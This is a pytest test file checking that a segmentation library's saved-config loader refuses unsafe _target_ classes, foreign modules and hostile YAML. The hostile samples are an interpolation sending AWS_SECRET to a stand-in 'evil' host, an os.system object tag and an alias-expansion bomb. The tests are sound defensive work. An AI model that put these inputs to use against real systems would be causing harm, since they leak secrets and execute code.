"""A run folder of somebody else: nothing that its config.yaml says is executed, imported, or read from the environment."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from pointseg.core.errors import CheckpointError
from pointseg.core.plain_yaml import as_plain_yaml, plain_yaml
from pointseg.core.saved_configuration import read_saved, refuse_foreign_classes, targets_in

HERE = Path("run/config.yaml")


@pytest.mark.parametrize(
    "name",
    [
        "pointseg.data.SemanticKITTIDataModule",
        "pointseg.data.scan_datamodule.Augmentation",
        "pointseg.models.PointNetSeg",
        "pointseg.models.frnet.network.FRNet",
        "pointseg.engine.losses.CrossEntropy",
        "torch.optim.AdamW",
        "torch.optim.lr_scheduler.OneCycleLR",
        "torch.nn.CrossEntropyLoss",
        "pytorch_lightning.callbacks.LearningRateMonitor",
        "pytorch_lightning.loggers.CSVLogger",
        "pointseg.data.GoneSinceThen",
    ],
)
def test_what_a_run_names_by_itself_is_known(name: str) -> None:
    refuse_foreign_classes({"any": [{"_target_": name}]}, HERE)


@pytest.mark.parametrize(
    "name",
    [
        "numpy.load",
        "os.system",
        "builtins.exec",
        "pandas.read_pickle",
        "torch.load",
        "torch.hub.load",
        "torch.nn.Module.load_state_dict",
        "torch.optim.optimizer.Path",
        "pointseg.data.scan.np.load",
        "pointseg.data.scan.read_points",
        "pointseg.core.files.write_text",
        "pointseg.engine.bundle.shutil.rmtree",
        "pointseg.workflows.train",
        "pytorch_lightning.Trainer",
        "pytorch_lightning.utilities.cloud_io.get_filesystem",
        "subprocess",
    ],
)
def test_anything_else_is_refused_by_name_and_key(name: str) -> None:
    section = {"data": {"_target_": "pointseg.data.SemanticKITTIDataModule", "sampling": {"_target_": name}}}
    with pytest.raises(CheckpointError, match=rf"names {name.replace('.', '[.]')}.*data\.sampling\._target_={name}"):
        refuse_foreign_classes(section, HERE)
    refuse_foreign_classes(section, HERE, [name])  # whoever starts the command names it


def test_a_foreign_module_is_not_imported_to_find_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "evil_module.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\nclass Data: ...\n")
    monkeypatch.syspath_prepend(tmp_path)
    with pytest.raises(CheckpointError, match="could run any code"):
        refuse_foreign_classes({"data": {"_target_": "evil_module.Data"}}, HERE)
    assert "evil_module" not in sys.modules
    assert not (tmp_path / "ran").exists()


def test_targets_are_found_at_any_depth() -> None:
    section = {"a": {"_target_": "x", "b": [{"c": {"_target_": "y", "_args_": [{"_target_": "z"}]}}]}, "d": 3}
    assert targets_in(section) == {"x", "y", "z"}


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("tracking: {uri: 'http://evil/${oc.env:AWS_SECRET}'}", r"tracking\.uri=.*is an interpolation"),
        ("'${oc.env:HOME}': 3", "is an interpolation"),
        ("data: [{a: ['x${b}']}]", r"data\.0\.a\.0=x"),
        ("a: &x [1]\nb: *x", "it has an alias"),
        ("a: " + "[" * 60 + "]" * 60, "levels deep"),
        ("a: 2001-99-99", "ValueError"),
        ("a: !!python/object/apply:os.system ['true']", "ConstructorError"),
        ("- 1", "not a configuration"),
        ("a: [", "cannot be read"),
    ],
)
def test_a_file_that_says_more_than_values_is_refused(text: str, message: str, tmp_path: Path) -> None:
    path = tmp_path / "config.yaml"
    path.write_text(text)
    with pytest.raises(CheckpointError, match=message) as caught:
        read_saved(path)
    assert caught.value.where == path


def test_an_expanding_text_is_refused_before_it_expands() -> None:
    lines = ["a0: &a0 [x, x]", *(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 60))]
    with pytest.raises(yaml.YAMLError, match="alias"):
        plain_yaml("\n".join(lines))


def test_what_is_written_is_read() -> None:
    twice: dict[str, Any] = {"a": [1, 2]}
    values = {"one": twice, "other": twice, "text": "ä: #", "none": None}
    text = as_plain_yaml(values)
    assert "&" not in text
    assert plain_yaml(text) == values
